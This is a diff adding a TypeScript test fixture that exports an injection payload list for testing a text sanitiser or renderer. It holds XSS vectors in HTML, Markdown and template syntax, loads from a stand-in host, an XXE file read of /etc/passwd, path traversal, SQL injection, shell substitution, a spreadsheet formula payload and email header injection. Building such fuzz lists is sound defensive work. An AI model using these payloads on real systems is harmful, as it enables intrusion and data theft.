@@ -1,0 +1,31 @@
+/** What runs, or tells on a page, where it gets through: a call that the tests would hear of. */
+const run = 'alert(1)'
+
+const markup = [
+  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//korus.invalid/x.js></script>`, `</script><script>${run}</script>`, `<script/x>${run}</script>`, `<<script>${run}//<</script>`,
+  `<img src=x onerror=${run}>`, `<img src=x onerror=${run}//`, `<img/src=x/onerror=${run}>`, `<img src="x" title="\`onerror=${run}\`">`, `<image src=x onerror=${run}>`, '<img src=//korus.invalid/pixel.gif>',
+  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<math href="javascript:${run}">x</math>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><img src=x onerror=${run}></template>`,
+  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="data:text/html,<script>${run}</script>">`, '<frameset onload=alert(1)>', '<portal src=//korus.invalid>',
+  `<body onload=${run}>`, `<details open ontoggle=${run}>x</details>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>x</marquee>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<keygen autofocus onfocus=${run}>`,
+  '<base href="//korus.invalid/">', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`, '<link rel=stylesheet href=//korus.invalid/x.css>', `<link rel=import href="data:text/html,<script>${run}</script>">`,
+  '<style>@import "//korus.invalid/x.css";</style>', '<style>*{background:url(//korus.invalid/x)}</style>', `<div style="background:url(javascript:${run})">x</div>`, `<div style="width:expression(${run})">x</div>`, '<form action=//korus.invalid><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>', '<a href=# ping=//korus.invalid>x</a>',
+  `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java&#9;script:${run}">x</a>`, `<a href="&#x6A;avascript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="\u0001javascript:${run}">x</a>`, '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
+  `--><img src=x onerror=${run}>`, `<!--><img src=x onerror=${run}>-->`, `<!--[if true]><script>${run}</script><![endif]-->`, `<![CDATA[<script>${run}</script>]]>`, `]]><script>${run}</script>`, `<?php echo 1 ?><script>${run}</script>`, '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  `"><script>${run}</script>`, `'><script>${run}</script>`, `" onmouseover="${run}`, `' onmouseover='${run}`, `\` onmouseover=${run} x=\``, `"autofocus onfocus=${run} x="`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</p></div></main></body></html><script>${run}</script>`,
+  `<plaintext>`, `<xmp><script>${run}</script></xmp>`, `<isindex action=javascript:${run}>`, `<mj-raw><script>${run}</script></mj-raw>`, `<mj-include path="/etc/passwd" />`, '</mj-text></mj-column><mj-raw><script>alert(1)</script></mj-raw>', `\u2028${run}\u2029`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `¼script¾${run}¼/script¾`, `%3Cscript%3E${run}%3C/script%3E`, `&lt;script&gt;${run}&lt;/script&gt;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+]
+
+const markdown = [
+  `[a](javascript:${run})`, `[a](JAVASCRIPT:${run})`, `[a](java\tscript:${run})`, `[a](&#106;avascript:${run})`, `[a](javascript&colon;${run})`, `[a](<javascript:${run}>)`, `[a]( javascript:${run} )`, `[a](\\javascript:${run})`, `[a](//korus.invalid/x)`, '[a](data:text/html,x)', '[a](file:///etc/passwd)', '[a](blob:x)', '[a](vbscript:x)', '[a](feed:javascript:alert(1))', '[a](view-source:x)',
+  `[a][b]\n\n[b]: javascript:${run}`, `<javascript:${run}>`, `![a](javascript:${run})`, '![a](//korus.invalid/p.gif)', '![a](data:image/svg+xml,<svg onload=alert(1)>)', `![a](x ""onerror=${run} ")`, `[a](https://x.example ""onmouseover=${run} ")`, `[<img src=x onerror=${run}>](https://x.example)`, `[a](https://x.example/"onmouseover=${run})`, `https://x.example/"onmouseover=${run}`, `www.x.example/<script>${run}</script>`,
+  `\`\`\`js" onload="${run}\nx\n\`\`\``, `\`\`\`<script>${run}</script>\nx\n\`\`\``, `## x {#id onclick=${run}}`, `## <img src=x onerror=${run}>`, `a[^<script>]\n\n[^<script>]: ${run}`, `a[^1]\n\n[^1]: <script>${run}</script>`, `| a |\n|---|\n| <img src=x onerror=${run}> |`, `:::fakta[<script>${run}</script>]\n- a: <img src=x onerror=${run}>\n:::`, `:::sitat["><script>${run}</script>]\nx\n:::`,
+  '{{< script >}}', '{{% shortcode %}}', '{{{constructor.constructor("alert(1)")()}}}', '{{#with "s" as |string|}}{{/with}}', '{{> /etc/passwd}}', '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', '*|MC:SUBJECT|*', '[[unsubscribe]]', '%recipient.email%', '{$unsubscribe}', '%%=RaiseError()=%%',
+]
+
+const plain = [
+  '\u0000', '\ufeff', '\ufffe', '\ud800', '\u202ealert\u202c', '\u200b', '\u0007\u001b[31m', '\r\nBcc: alle@korus.invalid\r\n', '\nATTACH:https://korus.invalid/x\nBEGIN:VALARM', ';X=1:', ',', '\\n', '\\', "=cmd|'/C calc'!A0", '@SUM(1)', '../../../../etc/passwd', '%00', 'null', 'undefined', 'NaN', 'true', '__proto__', 'constructor', 'hasOwnProperty', 'toString', "'; DROP TABLE saker; --", '$(touch /tmp/x)', '`touch /tmp/x`', '| ls', 'CON', 'aux.md', '社會科學院語學研究所', '👩‍👩‍👧‍👦', 'Ṱ̺̺̕o͞ ̷', '-'.repeat(300), 'a'.repeat(400), '()() { :; }; echo', 'file:///etc/passwd', '&amp;&#0;&#x110000;&bogus;',
+]
+
+/** Patterns of attack of our own making, of the kinds that are known to have gone through in programs like this one: in HTML, in Markdown, and in what else text is made into. */
+export const payloads: readonly string[] = [...markup, ...markdown, ...plain]
